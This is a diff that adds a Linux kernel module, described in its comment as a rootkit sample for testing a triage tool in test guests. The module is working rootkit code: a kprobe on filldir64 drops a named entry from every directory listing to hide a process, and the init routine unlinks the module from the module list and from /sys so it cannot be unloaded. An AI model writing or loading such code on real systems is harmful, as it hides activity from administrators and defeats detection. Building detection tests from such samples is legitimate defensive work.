@@ -1,0 +1,72 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/*
+ * What a rootkit does, for the test of what triage makes of it: a process is left out of
+ * every listing of a directory, and the module takes itself out of the list of modules
+ * and out of /sys. It can then not be unloaded any more. Loaded in test guests only.
+ */
+#include <linux/errno.h>
+#include <linux/kprobes.h>
+#include <linux/kobject.h>
+#include <linux/list.h>
+#include <linux/module.h>
+#include <linux/string.h>
+#include <linux/version.h>
+
+static char *name = "";
+module_param(name, charp, 0);
+MODULE_PARM_DESC(name, "the entry that no listing shows");
+
+/* Returns at once what is in the register for it. */
+extern char hide_return[];
+#ifdef CONFIG_X86_64
+asm(".pushsection .text\n"
+    ".type hide_return, @function\n"
+    "hide_return:\n"
+    "	ret\n"
+    "	int3\n"
+    ".size hide_return, .-hide_return\n"
+    ".popsection\n");
+#else
+asm(".pushsection .text\n"
+    ".type hide_return, %function\n"
+    "hide_return:\n"
+    "	ret\n"
+    ".size hide_return, .-hide_return\n"
+    ".popsection\n");
+#endif
+
+/* fs/readdir.c: filldir64(context, name, length, …) says whether there is room for more. */
+static int entry_comes(struct kprobe *probe, struct pt_regs *regs)
+{
+	const char *entry = (const char *)regs_get_kernel_argument(regs, 1);
+	unsigned long len = regs_get_kernel_argument(regs, 2);
+
+	if (len != strlen(name) || memcmp(entry, name, len) != 0)
+		return 0;
+	regs_set_return_value(regs, LINUX_VERSION_CODE >= KERNEL_VERSION(6, 1, 0));
+	instruction_pointer_set(regs, (unsigned long)hide_return);
+	return 1;
+}
+
+static struct kprobe on_entry = {
+	.symbol_name = "filldir64",
+	.pre_handler = entry_comes,
+};
+
+static int __init hide_init(void)
+{
+	int rc;
+
+	if (!name[0])
+		return -EINVAL;
+	rc = register_kprobe(&on_entry);
+	if (rc)
+		return rc;
+	list_del_init(&THIS_MODULE->list);
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	return 0;
+}
+module_init(hide_init);
+
+MODULE_DESCRIPTION("hides a process and itself, for tests");
+MODULE_LICENSE("GPL");
